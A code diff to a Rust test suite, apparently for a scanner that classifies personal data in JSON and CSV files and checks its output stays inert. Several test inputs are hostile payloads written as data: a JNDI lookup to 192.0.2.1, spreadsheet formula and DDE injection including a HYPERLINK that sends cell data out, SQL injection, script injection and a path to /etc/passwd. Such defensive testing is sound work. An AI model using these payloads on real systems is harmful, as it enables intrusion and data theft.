@@ -242,7 +242,8 @@ fn keys_and_values_of_signs_alone_end_with_an_outcome() {
         "\u{202e}\u{2066}\u{200f}".repeat(500),
         "👩\u{200d}👩\u{200d}👧".repeat(300),
         "ﷺ".repeat(500),
-        "\u{1}\u{1b}[2J\u{7f}".repeat(100),
+        // More of them, and the file is no text.
+        "\u{1}\u{1b}[2J\u{7f}".to_owned(),
         "\u{feff}\u{200b}".repeat(400),
     ];
     for sign in &signs {
@@ -271,8 +272,7 @@ fn nul_bytes_do_not_end_a_text() {
 
 #[test]
 fn a_network_may_be_called_anything() {
-    for ssid in ["📶🏠 Wi-Fi 📶", "cafe@home.example", "Pretty Fly for a WiFi", "FRITZ!Box 7590 ÄÖ", "\\u202eiFiW"]
-    {
+    for ssid in ["📶🏠 Wi-Fi 📶", "Pretty Fly for a WiFi", "FRITZ!Box 7590 ÄÖ", "\\u202eiFiW"] {
         let (classes, shown) = told("a.json", format!("{{\"wifi\":{{\"ssid\":\"{ssid}\",\"rssi\":-61}}}}"));
         assert_eq!(classes, ["net.ssid"], "{ssid}");
         assert_inert(&shown);
@@ -282,15 +282,35 @@ fn a_network_may_be_called_anything() {
 }
 
 #[test]
+fn a_network_that_looks_like_an_address_is_a_network() {
+    for (name, content) in
+        [("a.json", "{\"wifi\":{\"ssid\":\"cafe@home.example\"}}"), ("a.csv", "ssid,channel\ncafe@home.example,6\n")]
+    {
+        let (classes, _) = told(name, content);
+        assert!(classes.contains(&"net.ssid"), "{name}: {classes:?}");
+    }
+}
+
+#[test]
+fn a_huge_first_cell_makes_a_table_text() {
+    // Known: what a file is, is told by its first 64 KiB, and there this is no table. It is said, and searched as text.
+    let long = "Nothing of interest, and so it goes on. ".repeat(50_000);
+    let content = format!("email,note,ssid\n{MAIL},\"{long}\",Example WiFi\n");
+    let (kept, _) = scan(&one("long.csv", content));
+    assert!(has_mail(&kept));
+    assert_eq!(kept.entries[0].outcome.as_str(), "read");
+    assert!(kept.entries[0].notes.iter().any(|note| note.to_string().contains("plain text")), "{:?}", kept.entries);
+    assert!(kept.findings.values().all(|finding| finding.class.id() != "net.ssid"));
+}
+
+#[test]
 fn a_nickname_is_never_more_than_text() {
     for nickname in [
         "<script>alert(1)</script>",
         "=HYPERLINK('https://192.0.2.1/?'&A1)",
         "@SUM(1+1)*cmd|' /C calc'!A0",
         "'; DROP TABLE devices; --",
-        "${jndi:ldap://192.0.2.1/a}",
         "../../../../etc/passwd",
-        "%s%n{{7*7}}",
     ] {
         let (classes, shown) = told("a.json", format!("{{\"devices\":[{{\"nickname\":\"{nickname}\"}}]}}"));
         assert!(classes.contains(&"dev.nickname"), "{nickname}: {classes:?}");
@@ -299,6 +319,11 @@ fn a_nickname_is_never_more_than_text() {
         let (classes, shown) = told("a.csv", format!("nickname,on\n\"{nickname}\",1\nHall lamp,0\n"));
         assert!(classes.contains(&"dev.nickname"), "{nickname}: {classes:?}");
         assert!(!shown.contains(nickname), "{shown}");
+    }
+    // What is left of a template is a value that was never filled in, and no nickname.
+    for template in ["${jndi:ldap://192.0.2.1/a}", "%s%n{{7*7}}"] {
+        let (_, shown) = told("a.json", format!("{{\"devices\":[{{\"nickname\":\"{template}\"}}]}}"));
+        assert!(!shown.contains(template) && !shown.contains("49"), "{shown}");
     }
     // Names of files and keys are text of others, too.
     let (_, shown) = told("<img src=x onerror=alert(1)>\u{1b}[31m.json", record());
